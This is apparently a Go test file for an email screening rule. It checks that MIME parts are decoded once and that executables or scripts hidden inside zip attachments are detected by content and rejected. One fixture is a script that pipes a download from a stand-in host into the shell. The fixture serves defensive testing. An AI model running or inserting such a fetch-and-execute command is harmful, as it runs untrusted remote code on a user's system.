package screen

import (
	"archive/zip"
	"bytes"
	"context"
	"strings"
	"testing"
)

// TestPartsWalkedOnce: every rule of a message sees the same decoded
// parts; the MIME tree is walked and decoded once per message.
func TestPartsWalkedOnce(t *testing.T) {
	m := msg("info@example.test", []string{"bob@remote.test"}, multipart("a.pdf", "application/pdf", []byte("%PDF-1.4 "+strings.Repeat("x", 300))))
	p1, err := m.Parts()
	if err != nil || len(p1) != 2 {
		t.Fatalf("parts %d, %v", len(p1), err)
	}
	p2, _ := m.Parts()
	if len(p2) != 2 || &p1[1].Body[0] != &p2[1].Body[0] {
		t.Fatal("the second Parts call decoded the attachment again")
	}
	// Through a pipeline of the rules that read parts.
	m = msg("info@example.test", []string{"bob@remote.test"}, multipart("a.pdf", "application/pdf", []byte("%PDF-1.4 x")))
	seen := &partsSpy{}
	p := &Pipeline{Log: quiet, Rules: []Rule{Headers{}, seen, NewAttachments(DefaultBlockedExtensions), seen}}
	if v := p.Screen(context.Background(), m); v != nil {
		t.Fatal(v)
	}
	if len(seen.bodies) != 2 || seen.bodies[0] != seen.bodies[1] {
		t.Fatalf("rules saw different copies of the parts: %v", seen.bodies)
	}
}

// partsSpy records where the body of the last part lives.
type partsSpy struct{ bodies []*byte }

func (*partsSpy) Name() string { return "spy" }

func (s *partsSpy) Check(_ context.Context, m *Message) *Verdict {
	parts, _ := m.Parts()
	s.bodies = append(s.bodies, &parts[len(parts)-1].Body[0])
	return nil
}

// zipOf builds a zip archive with the given members.
func zipOf(t *testing.T, members map[string][]byte) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for name, data := range members {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(data)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestZipMembersByContent: a program or script inside a zip is found by
// its content whatever its name, one level deep, and the reply names the
// member; harmless members and nested archives' contents pass.
func TestZipMembersByContent(t *testing.T) {
	pe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"), bytes.Repeat([]byte{0}, 100)...)
	elf := append([]byte("\x7fELF\x02\x01\x01\x00"), bytes.Repeat([]byte{0}, 60)...)
	macho64 := append([]byte{0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01}, bytes.Repeat([]byte{0}, 60)...)
	machoFat := append([]byte{0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x02}, bytes.Repeat([]byte{0}, 60)...)
	script := []byte("#! /bin/bash\ncurl -s http://x.test/p | sh\n")
	cases := []struct {
		name    string
		members map[string][]byte
		mention []string // empty: accepted
	}{
		{"Windows program named pdf", map[string][]byte{"readme.txt": []byte("hi"), "invoice.pdf": pe}, []string{"invoice.pdf", "Windows program"}},
		{"Linux program without extension", map[string][]byte{"bin/update": elf}, []string{"bin/update", "Linux program"}},
		{"Mach-O 64-bit", map[string][]byte{"Photo.jpg": macho64}, []string{"Photo.jpg", "macOS program"}},
		{"Mach-O universal", map[string][]byte{"Viewer": machoFat}, []string{"Viewer", "macOS program"}},
		{"shell script with #! and a space", map[string][]byte{"setup.txt": script}, []string{"setup.txt", "script"}},
		{"harmless documents", map[string][]byte{"a.pdf": []byte("%PDF-1.4 x"), "b.txt": []byte("#hashtag, not a script\n"), "c.csv": []byte("MZ,code\n1,2\n")}, nil},
		{"program two levels deep is not opened", map[string][]byte{"inner.zip": zipOf(t, map[string][]byte{"x.pdf": pe})}, nil},
	}
	rule := NewAttachments(DefaultBlockedExtensions)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			m := msg("info@example.test", nil, multipart("docs.zip", "application/zip", zipOf(t, c.members)))
			v := rule.Check(context.Background(), m)
			if len(c.mention) == 0 {
				if v != nil {
					t.Fatalf("refused: %v", v)
				}
				return
			}
			if v == nil {
				t.Fatal("accepted")
			}
			if v.Code != 554 || v.Enhanced != [3]int{5, 7, 1} || !strings.Contains(v.Message, "docs.zip") {
				t.Fatalf("got %v, want 554 5.7.1 naming docs.zip", v)
			}
			for _, w := range c.mention {
				if !strings.Contains(v.Message, w) {
					t.Fatalf("%q does not name %q", v.Message, w)
				}
			}
		})
	}
}
